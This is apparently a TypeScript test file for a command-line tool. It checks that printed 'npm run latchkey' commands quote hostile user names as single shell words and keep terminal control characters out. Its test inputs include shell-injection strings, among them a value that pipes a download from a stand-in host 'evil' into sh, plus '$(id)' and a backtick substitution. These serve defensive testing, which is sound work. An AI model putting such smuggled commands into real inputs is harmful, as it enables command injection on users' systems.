import { spawnSync } from 'node:child_process'
import { globSync, readFileSync } from 'node:fs'
import * as fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { latchkey, userWord } from '../../src/programs/kit/printed-command.ts'
import { loadCommands } from '../../src/programs/commands.ts'
import { Clone } from '../support/clone.ts'

/** Runs a script in which `npm` prints its arguments, and returns these. */
function argumentsOf(script: string): string[] {
  const npm = String.raw`npm() { printf '%s\0' "$@"; }`
  const { stdout, stderr } = spawnSync('sh', ['-c', `${npm}; ${script}`], { encoding: 'utf8' })
  expect(stderr).toBe('')
  return stdout.split('\0').slice(0, -1)
}

const HOSTILE = ['m;curl evil|sh;', '$(id)', "it's `id`", 'a b', '&', '~', '*', '"', '{a,b}', '!!']

describe('a printed command', () => {
  test.for(HOSTILE)('has %s as one word, as it is', (name) => {
    const words = ['user', 'password', name, '--generate']
    expect(argumentsOf(latchkey(...words))).toEqual(['run', 'latchkey', '--', ...words])
  })

  test('has every text as one word, in which nothing steers a terminal', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }), (name) => {
        const command = latchkey('user', 'show', name)
        expect(command).not.toMatch(/\p{Cc}/u)
        expect(argumentsOf(command)).toHaveLength(6)
      }),
      { numRuns: 30 },
    )
  })

  test('names a user by the id when the name would be an option, another id or a control', () => {
    for (const username of ['-rf', '#7', 'red\u001b[31m', 'a\nb', '\u202Eevil'])
      expect(userWord({ id: 12, username })).toBe('#12')
    for (const username of ['alice', '张三', ...HOSTILE])
      expect(userWord({ id: 12, username })).toBe(username)
  })
})

describe('what commands print about a user with a hostile name', () => {
  const [name = ''] = HOSTILE
  let clone: Clone
  beforeAll(() => {
    clone = new Clone(inject('startedSite'))
    clone.sql(`insert into users (id, username, username_key, role, password_hash, created_at)
      values (7, '${name}', '${name}', 0, 'x', 0)`)
    clone.sql(`insert into passkeys (credential_id, user_id, public_key, algorithm, sign_count, backed_up, transports, aaguid, rp_id, name, created_at)
      values ('AAAA', 7, '', -7, 0, 0, '', '${'0'.repeat(32)}', 'localhost', 'phone', 1)`)
    clone.sql(`insert into identities (issuer, subject, user_id, platform, name, linked_at, linked_by)
      values ('https://id.example.org', 'sub-1', 7, 'OIDC', 'alice@example.org', 1, 'user')`)
  })
  afterAll(() => clone.remove())

  test.for([
    ['user', 'password', name, '--generate'],
    ['2fa', 'cancel', name],
    ['key', 'delete', name, '99'],
    ['passkey', 'delete', name, 'BBBB'],
    ['identity', 'delete', name, 'sub-2'],
  ])('quotes it: %s %s', async (words) => {
    const { stdout, stderr } = await clone.command(words)
    const printed = [...`${stdout}${stderr}`.matchAll(/npm run latchkey -- .*?(?=\)?:?$)/gm)]
    const named = printed.map(([command]) => argumentsOf(command)).filter((item) => item.length > 5)
    expect(named.length).toBeGreaterThan(0)
    for (const command of named) expect(command).toContain(name)
  })
})

/** Files whose commands have no words of others: help. */
const FIXED = /\/(printed-command|help)\.ts$/

/** The source without comments and without the examples of help texts. */
function codeOf(path: string): string {
  return (
    readFileSync(path, 'utf8')
      .replaceAll(/\/\*[^]*?\*\/|^\s*\/\/.*$/gm, '')
      // The text of a key that the door derives.
      .replaceAll("'latchkey ldap search'", '')
      .replaceAll(/\bexamples: \[[^\]]*\]/g, '')
  )
}

test('the command line and the pages print commands by one function', async () => {
  const paths = (await loadCommands()).map(({ words }) => words.join(' '))
  const known = paths.join('|')
  const printed = new RegExp(String.raw`npm run (?:-s )?latchkey|\blatchkey (?:-- )?(?:${known})\b`)
  const pairs = paths.filter((path) => path.includes(' ')).join('|')
  // A command with a word that the code puts in.
  const filled = new RegExp(String.raw`\b(?:${pairs})\b[^\x60\n'.]*\$\{`)
  const found = globSync([
    'src/{programs,web}/**/*.{ts,tsx}',
    'src/capabilities/*/{commands,pages}/**/*.{ts,tsx}',
    'src/capabilities/*/commands.ts',
  ])
    .filter((path) => !FIXED.test(path) && !path.includes('/assets/'))
    .flatMap((path) =>
      codeOf(path)
        .split('\n')
        .filter((line) => printed.test(line) || filled.test(line))
        .map((line) => `${path}: ${line.trim()}`),
    )
  expect(found).toEqual([])
})
